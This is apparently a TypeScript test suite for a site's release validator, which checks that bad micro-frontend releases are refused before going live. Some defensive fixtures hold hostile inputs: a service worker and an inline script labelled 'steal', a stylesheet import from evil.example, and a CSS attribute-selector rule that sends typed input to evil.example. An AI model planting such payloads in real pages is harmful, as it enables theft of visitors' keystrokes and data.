import { appendFile, readdir, readFile, rm } from 'node:fs/promises'
import path from 'node:path'
import { sha256 } from '@platform/base/durable/digest'
import { exists } from '@platform/base/durable/durable'
import {
  catalogFixture,
  type Fixture,
  fileOf,
  hostFixture,
  pageBundle,
} from '@platform/release/testing/fixture-release'
import { apiCalls } from '@site/shared/contracts/calls'
import { checkActivation } from '../queries/check-activation'
import { setUpSite } from '../testing/test-site'

// Such releases rendered, went live and broke at the first click or payment.

const site = setUpSite()

const ui = '@site/shared/ui'
const location = 'catalog/src/courses/course-card.tsx:4'
const dialog = 'export declare function Dialog(props: { title: string }): string\n'
const renamed = 'export declare function Dialog(props: { heading: string }): string\n'
const types = (text: string) => ({
  entries: { [ui]: 'ui/index.d.ts' },
  files: { 'ui/index.d.ts': text },
  digest: sha256(text),
})
const uses = (name: string): Fixture => ({
  requires: { names: { [ui]: { [name]: location } }, types: types(dialog), styles: { properties: {}, layers: {} } },
})
const styled = (rules: object): Fixture => ({
  requires: {
    names: {},
    types: { entries: {}, files: {}, digest: sha256('') },
    styles: { properties: {}, layers: {}, ...rules },
  },
})
const shares = (names: string[], text = dialog): Fixture =>
  hostFixture({
    version: '0.2.0',
    provides: {
      names: { react: ['useState'], [ui]: names },
      types: types(text),
      styles: { properties: [], layers: [] },
    },
  })
const ofCourse = (prices: unknown) => ({ id: 1, title: 'First Aid', prices, duration: '1 Day' })
const selling = (...courses: unknown[]): Fixture => ({ data: { courses } })
const rendering = (expression: string): Fixture => ({
  content: { 'server/courses-page.cjs': pageBundle(expression) },
})
const showing = (html: string) => rendering(JSON.stringify(`<h1>Courses</h1>${html}`))
const page = (more: object): Fixture => ({ pages: [{ module: './courses-page', path: '/courses', ...more }] })
const loading = (...hosts: string[]) => page({ contentSecurityPolicy: { 'script-src': hosts } })
const file = (name: string, content: string): Fixture => ({ content: { [name]: content } })
const styles = (css: string) => file('client/courses.css', css)
const login = 'POST /api/auth/login'
const properties = { email: { type: 'string' }, code: { type: 'string' } }
const sends = { ...apiCalls[login].accepts, properties }

async function release(catalog: Fixture, host?: Fixture): Promise<unknown> {
  if (host) await site.publish(host)
  await site.publish(catalogFixture({ version: '0.2.0', ...catalog }))
  return site.activate({ catalog: '0.2.0', ...(host && { shell: '0.2.0' }) })
}

const state = async () => ({
  pointer: await readFile(site.copy.current, 'utf8'),
  files: (await readdir(site.copy.compositions, { recursive: true })).sort(),
})

it.each<[string, Fixture, RegExp, Fixture?]>([
  [
    'a shared name that the shell does not export',
    uses('Notice'),
    /catalog@0\.2\.0 uses Notice of @site\/shared\/ui \(catalog\/src\/courses\/course-card\.tsx:4\), which shell@0\.2\.0 does not export; it exports Button, Dialog\. Activate a shell/,
    shares(['Button', 'Dialog']),
  ],
  [
    'a shared part of another type',
    uses('Dialog'),
    /uses Dialog .* in shell@0\.2\.0 "heading" is required now/,
    shares(['Dialog'], renamed),
  ],
  [
    'a custom property nobody defines',
    styled({ properties: { '--site-colour-new': 'catalog/src/a.module.css:3' } }),
    /uses var\(--site-colour-new\) without a fallback \(catalog\/src\/a\.module\.css:3\), but :root of shell@0\.1\.0/,
  ],
  ['another contract', { contract: 2 }, /catalog@0.2.0 follows contract 2, but shell@0.1.0 follows 1/],
  // Every buyer's order page showed another package's page, and "nothing changed for visitors".
  [
    'a fallback below another package’s address',
    page({ fallback: { below: '/about', status: 200 } }),
    /catalog@0\.2\.0 has the fallback of \/about, but \/about is shell@0\.1\.0's/,
  ],
  [
    'a fallback of the API',
    page({ fallback: { below: '/api/payments', status: 404 } }),
    /\(fallback\) is an address of the origin/,
  ],
  ['a file that hides the probe', file('public/servez', 'ok'), /\/servez of catalog@0\.2\.0 \(public file\)/],
  ['a file of the origin', file('public/.well-known/assetlinks.json', '[]'), /is an address of the origin itself/],
  ['a service worker', file('public/sw.js', 'onfetch=steal'), /sw\.js .* \(public file\) could run/],
  ...['*', 'https:', "'unsafe-inline'"].map((host): [string, Fixture, RegExp] => [
    `scripts from ${host}`,
    loading(host),
    /not a valid release\.json: \/pages\/0\/contentSecurityPolicy\/script-src\/0 must match pattern/,
  ]),
  ['a module that the shell does not share', uses('Dialog'), /uses @site\/shared\/ui .* does not share/],
  [
    'a layer nobody orders',
    styled({ layers: { widgets: 'catalog/src/a.module.css:1' } }),
    /into the layer widgets .* it has page/,
  ],
  ['another React', { shared: { react: { range: '^20.0.0' } } }, /needs react \^20.0.0, but shell@0.1.0 shares 19/],
  ['no price list', { data: {} }, /price list the API cannot use: data/],
  ['a course twice', selling(ofCourse([1]), ofCourse([2])), /has course 1 twice/],
  ['a module that throws', file('server/courses-page.cjs', 'throw new Error("broken")'), /courses-page: Error: broken/],
  [
    'a page that hides the metrics',
    page({ path: '/metrics' }),
    /\/metrics of catalog@0\.2\.0 \(page\) is an address of the origin itself/,
  ],
  ['a price that nobody can pay', showing('£1,249.50'), /\(catalog@0\.2\.0\) shows £1249\.5, which is in no course/],
  [
    'a host that asks for Node',
    {},
    /shell asks for "node:fs"/,
    hostFixture({ version: '0.2.0', content: { 'server/index.cjs': 'require("node:fs")' } }),
  ],
  ['a page without content', rendering('""'), /\(catalog@0\.2\.0\) has an empty <main>/],
  [
    'a field that the API does not know',
    { calls: { [login]: { sends, reads: {}, readsRefusal: {} } } },
    /catalog@0\.2\.0 sends POST \/api\/auth\/login with the field "code" that is an unknown field, which the API refuses/,
  ],
  // Compose has 50 more kinds of active content, and 50 attacks on the process that renders.
  ['an inline script', showing('<script>steal()</script>'), /has an inline script/],
  [
    'styles that load others',
    styles('@import "https://evil.example/x.css";.a{color:red}'),
    /has a style sheet, \/assets\/catalog\/courses\.\w+\.css, that loads another style sheet/,
  ],
  [
    'styles that report what is typed',
    styles('input[value^=a]{background:u\\72l(https://evil.example/a)}'),
    /has a style sheet, .*, that loads https:\/\/evil\.example\/a, of another host/,
  ],
  ['a page beside the shell', file('public/offers.html', '<script/>'), /offers\.html .* could run beside/],
  ['a policy of Trusted Types', { trustedTypes: ['default'] }, /declares the Trusted Types policy "default"/],
  [
    'a host that the site does not grant',
    loading('https://js.evil.example'),
    /would let \/courses reach https:\/\/js\.evil\.example .*: site hosts allow catalog https:\/\/js\.evil\.example --for script-src/,
  ],
])(
  'a release is refused by name before a visitor can meet it, and nothing changes, for %s',
  async (_what, catalog, reason, ...[host]) => {
    const before = await state()
    await expect(release(catalog, host)).rejects.toThrow(reason)
    expect(await state()).toEqual(before)
    if (host || !(await exists(site.copy.release('catalog', '0.2.0')))) return
    const { problems } = await checkActivation(site.copy, { catalog: '0.2.0' }, site.limits)
    expect(problems.join('\n')).toMatch(reason)
    expect(problems.join('\n')).not.toContain(site.copy.root)
  },
)

async function damaged(name: string, version: string, file: string, wanted = '0.2.0'): Promise<unknown> {
  await site.publish(catalogFixture({ version: '0.2.0' }))
  await appendFile(path.join(site.copy.release(name, version), file), ' ')
  return site.activate({ catalog: wanted })
}
const ofBrowser = `client/${fileOf(catalogFixture(), 'courses.js')}`

it.each<[string, () => Promise<unknown>, string]>([
  [
    'a file changed in the registry',
    () => damaged('catalog', '0.2.0', 'server/courses-page.cjs'),
    'does not match its digest',
  ],
  [
    'a changed file of the live shell',
    () => damaged('shell', '0.1.0', 'server/index.cjs'),
    'does not match its digest',
  ],
  ['what is live once more', () => damaged('catalog', '0.1.0', ofBrowser, '0.1.0'), 'does not match its digest'],
  [
    'a site without settings',
    () => rm(site.copy.settings).then(() => site.activate({ catalog: 'latest' })),
    'The site has no settings yet',
  ],
  [
    'a first activation without a host',
    () => rm(site.copy.current).then(() => site.activate({ catalog: 'latest' })),
    'exactly one host, not 0',
  ],
  ['a release that is not published', () => site.activate({ catalog: '7.0.0' }), 'catalog@7.0.0 is not published'],
])('an activation is refused for %s', async (_what, activate, message) => {
  await expect(activate()).rejects.toThrow(message)
  expect((await site.copy.readPointer())?.live ?? 1).toBe(1)
})

// An activation read all files of a hundred remotes, of which one changed.
it('does not read what stays live and nobody runs again (P10): origins check each file they send', async () => {
  const script = `client/${fileOf(hostFixture(), 'main.js')}`
  await expect(damaged('shell', '0.1.0', script)).resolves.toMatchObject({ outcome: 'activated' })
})

it.each<[string, Fixture, Fixture?]>([
  [
    'with shared parts that grew',
    uses('Dialog'),
    shares(['Dialog', 'Notice'], dialog.replace('string }', 'string; wide?: boolean }')),
  ],
  ['with a price of the list', showing('£129.00')],
  [
    'with a contract that the shell still serves',
    { contract: 1 },
    { ...hostFixture({ version: '0.2.0' }), contract: 2, supports: [1, 2] },
  ],
])('a release goes live %s', async (_what, catalog, ...[host]) => {
  expect(await release(catalog, host)).toMatchObject({ outcome: 'activated' })
})
